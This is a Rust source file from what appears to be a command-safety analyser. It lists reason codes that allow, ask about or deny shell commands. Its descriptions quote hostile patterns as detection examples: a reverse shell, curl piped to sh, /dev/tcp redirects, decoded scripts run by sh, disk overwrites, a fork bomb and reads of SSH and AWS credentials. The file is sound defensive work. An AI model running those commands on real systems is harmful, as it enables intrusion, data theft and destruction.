//! reasons: every reason code, with the decision it carries by default and what it means.
//!
//! Codes are stable dotted names (a contract, DESIGN §6). `docs/reasons.md` is generated from
//! this table (a test checks it is current). Floors: `opaque.*`, `limit.*` and every code whose
//! default is Deny cannot be lifted by an allow rule.

use crate::report::Decision;

/// One documented reason code.
#[derive(Debug, Clone, Copy)]
pub struct ReasonDoc {
    pub code: &'static str,
    pub decision: Decision,
    pub doc: &'static str,
}

const fn r(code: &'static str, decision: Decision, doc: &'static str) -> ReasonDoc {
    ReasonDoc { code, decision, doc }
}

use Decision::{Allow, Ask, Deny};

/// Sorted by code.
pub const REASONS: &[ReasonDoc] = &[
    r("ask.flag", Ask, "A flag turns a known command into something we do not vouch for."),
    r("delete.command", Ask, "The command deletes files."),
    r("delete.file", Ask, "A path is deleted."),
    r("delete.flag", Ask, "A flag makes the command delete files (`find -delete`)."),
    r("delete.recursive-home", Deny, "Recursive delete of the home directory or everything in it."),
    r("delete.recursive-root", Deny, "Recursive delete of `/` or everything in it."),
    r("delete.recursive-system", Deny, "Recursive delete of a system directory (`/etc`, `/usr`, ...)."),
    r("disk.format", Deny, "Creates a file system or wipes signatures on a device (`mkfs`, `wipefs`)."),
    r("disk.overwrite", Deny, "Writes raw data onto a block device (`dd of=/dev/sda`, `> /dev/sda`, `shred`)."),
    r("exec.editor", Ask, "An interactive editor: it can run any command (`vim -c`, `:!`)."),
    r(
        "exec.flag",
        Ask,
        "A flag makes the command run another program (`find -exec` unresolved, `rg --pre`, `git -c`).",
    ),
    r("exec.interpreter", Ask, "Inline code for an interpreter (`python -c`, `node -e`): not analysed further."),
    r("exec.project-binary", Ask, "A path-qualified executable of the project (`./x`, `node_modules/.bin/x`)."),
    r("exec.remote", Ask, "Runs a command in a container, pod or on another host."),
    r("exec.runs-code", Ask, "Runs code that is not in the command text (build, test, package scripts, interpreters)."),
    r("exec.script", Ask, "Runs a script file whose content we cannot see."),
    r("git.force-push-protected", Deny, "Force-push to, or deletion of, `main` or `master` on a remote."),
    r("limit.depth", Ask, "Nesting deeper than the analyser follows."),
    r("limit.input-size", Ask, "The command text is larger than the analyser reads."),
    r("limit.invocations", Ask, "More commands than the analyser follows."),
    r("limit.parse-deadline", Ask, "Parsing took longer than the deadline."),
    r("net.access", Ask, "Reaches the network."),
    r("net.dev-tcp", Ask, "A `/dev/tcp` or `/dev/udp` redirect opens a network connection."),
    r("net.flag", Ask, "A flag makes the command reach the network."),
    r(
        "net.pipe-to-shell",
        Deny,
        "Text fetched from the network is run as code (`curl ... | sh`, `sh -c \"$(curl ...)\"`).",
    ),
    r(
        "net.reverse-shell",
        Deny,
        "A shell wired to a network socket (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`).",
    ),
    r("opaque.alias", Ask, "Aliases are defined or enabled: later command names may mean something else."),
    r(
        "opaque.arith-data",
        Ask,
        "Arithmetic on data read at run time (`read n; echo $((n))`): a value like `a[$(cmd)]` runs cmd.",
    ),
    r(
        "opaque.decoded-script",
        Ask,
        "Runs text decoded at run time from a static string (`echo B64 | base64 -d | sh`): obfuscated, even when harmless.",
    ),
    r("opaque.dynamic-command", Ask, "The command name is known only at run time."),
    r("opaque.dynamic-script", Ask, "Shell text run by `eval`, `sh -c`, `trap`, ... is known only at run time."),
    r(
        "opaque.env-assignment",
        Ask,
        "Sets an environment variable that changes what runs or loads (`PATH`, `LD_PRELOAD`, `GIT_SSH_COMMAND`, ...).",
    ),
    r("opaque.function-shadow", Ask, "A known command was redefined as a function."),
    r("opaque.parse-error", Ask, "The text has a syntax error; bash may read it differently than we do."),
    r("opaque.shell-stdin", Ask, "A shell or interpreter runs code from stdin that we cannot see."),
    r(
        "opaque.subscript-code",
        Ask,
        "An array subscript holding `$(...)` that bash evaluates (`printf -v 'a[$(x)]'`, `test -v`, arithmetic).",
    ),
    r("opaque.unknown-node", Ask, "Syntax the analyser has not reviewed."),
    r("opaque.wrapper-option", Ask, "A wrapper option we do not model; we cannot tell what it runs."),
    r("policy.allow", Allow, "A user policy rule or `[defaults]` entry allowed what the built-in default asks for."),
    r("policy.ask", Ask, "A user policy `ask` rule matched (see the invocation's `rule`)."),
    r(
        "policy.default",
        Ask,
        "A user policy `[defaults]` or `[paths]` entry is stricter than the built-in default here.",
    ),
    r("policy.deny", Deny, "A user policy `deny` rule matched: the user's decision, not a built-in floor."),
    r("privilege.escalation", Ask, "Runs with raised privilege (`sudo`, `doas`, `su`, `pkexec`)."),
    r("privilege.namespace", Ask, "Changes root or namespaces (`chroot`, `nsenter`, `unshare`)."),
    r("read.secret", Ask, "Reads a file that may hold credentials (`.env`, `~/.ssh/id_*`, `~/.aws/**`, ...)."),
    r(
        "read.unknown-path",
        Ask,
        "Reads a file whose name is known only at run time (`cat \"$f\"`, `cat < $(cmd)`): it may be a secret.",
    ),
    r("system.change", Ask, "Changes system or process state (services, users, processes, mounts)."),
    r("system.flag", Ask, "A flag makes the command change system state (`date -s`)."),
    r("system.fork-bomb", Deny, "A function that calls itself in a pipeline or background: a fork bomb."),
    r("system.kill-all", Deny, "Kills every process (`kill -9 -1`)."),
    r("system.perm-root", Deny, "Recursive permission or ownership change of `/`, home or a system directory."),
    r("system.power", Deny, "Shuts down, reboots or halts the machine."),
    r("unknown.command", Ask, "A command not in the knowledge base."),
    r("unknown.flag", Ask, "A flag missing from a read-only command's table: it may write, run or reach the network."),
    r("unknown.subcommand", Ask, "A subcommand not in the knowledge base."),
    r("write.command", Ask, "The command changes files or state."),
    r("write.file", Ask, "A file in the workspace is written."),
    r("write.flag", Ask, "A flag makes the command write files (`sort -o`, `sed -i`)."),
    r("write.outside", Ask, "A file outside the workspace is written."),
    r("write.permissions", Ask, "Permissions or ownership change."),
    r(
        "write.persistence",
        Ask,
        "Writes a persistence or agent-config path (shell rc, `.git/hooks`, `authorized_keys`, `.claude/`).",
    ),
    r("write.redirect", Ask, "A redirect writes a file."),
    r("write.secret", Ask, "Writes a credentials file."),
    r("write.system", Ask, "Writes a system path."),
    r("write.unknown-path", Ask, "Writes or deletes a path known only at run time."),
];

pub fn lookup(code: &str) -> Option<&'static ReasonDoc> {
    REASONS.binary_search_by(|r| r.code.cmp(code)).ok().map(|i| &REASONS[i])
}

/// Codes no allow rule can lift: opaque, limits, and built-in denies. `policy.*` codes are
/// user decisions, not floors.
pub fn is_floor(code: &str) -> bool {
    !code.starts_with("policy.")
        && (code.starts_with("opaque.")
            || code.starts_with("limit.")
            || lookup(code).is_some_and(|r| r.decision == Deny))
}

/// Renders `docs/reasons.md`.
pub fn markdown() -> String {
    let mut out = String::from(
        "# Reason codes\n\nGenerated from `src/reasons.rs` (`cargo test` checks it is current).\nFloors (`opaque.*`, `limit.*` and every deny) cannot be lifted by an allow rule.\n\n| code | default | meaning |\n|---|---|---|\n",
    );
    for r in REASONS {
        out.push_str(&format!("| `{}` | {} | {} |\n", r.code, r.decision.as_str(), r.doc.replace('|', "\\|")));
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn sorted_unique_documented() {
        for pair in super::REASONS.windows(2) {
            assert!(pair[0].code < pair[1].code, "{} before {}", pair[0].code, pair[1].code);
        }
        for r in super::REASONS {
            assert!(!r.doc.is_empty());
        }
    }
}
